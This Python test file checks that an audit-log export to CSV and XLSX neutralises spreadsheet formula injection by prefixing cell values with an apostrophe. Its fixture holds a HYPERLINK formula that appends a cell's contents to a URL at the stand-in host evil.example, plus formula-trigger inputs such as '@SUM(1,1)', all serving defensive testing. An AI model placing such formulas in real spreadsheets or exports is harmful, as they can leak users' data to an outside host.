"""`lscb audit export`: every entry, and nothing in it a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

from openpyxl import load_workbook

from bot.board_files import export_audit
from storage import audit
from storage.database import Database
from storage.repository import PlanRepository

EVIL = '=HYPERLINK("http://evil.example/?"&B2,"Evidence pack")'


def test_audit_cells_are_inert_in_csv_and_xlsx(sample_database: Database,
                                               tmp_path: Path) -> None:
    with sample_database.committed() as session:
        plan = PlanRepository.for_team(session).plan
        audit.record(session, plan.id, "+U1", "user.link", EVIL,
                     datetime(2014, 5, 1, 9, tzinfo=UTC), user="@SUM(1,1)")
    assert export_audit(sample_database, tmp_path / "audit.csv") == 2
    content = (tmp_path / "audit.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert (rows[1]["subject"], rows[1]["actor"]) == ("'" + EVIL, "'+U1")
    assert rows[1]["at"] == "2014-05-01T09:00:00+00:00"
    export_audit(sample_database, tmp_path / "audit.xlsx")
    sheet = load_workbook(tmp_path / "audit.xlsx")["Audit"]
    subject = sheet.cell(3, 5)
    assert (subject.value, subject.data_type) == ("'" + EVIL, "s")
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
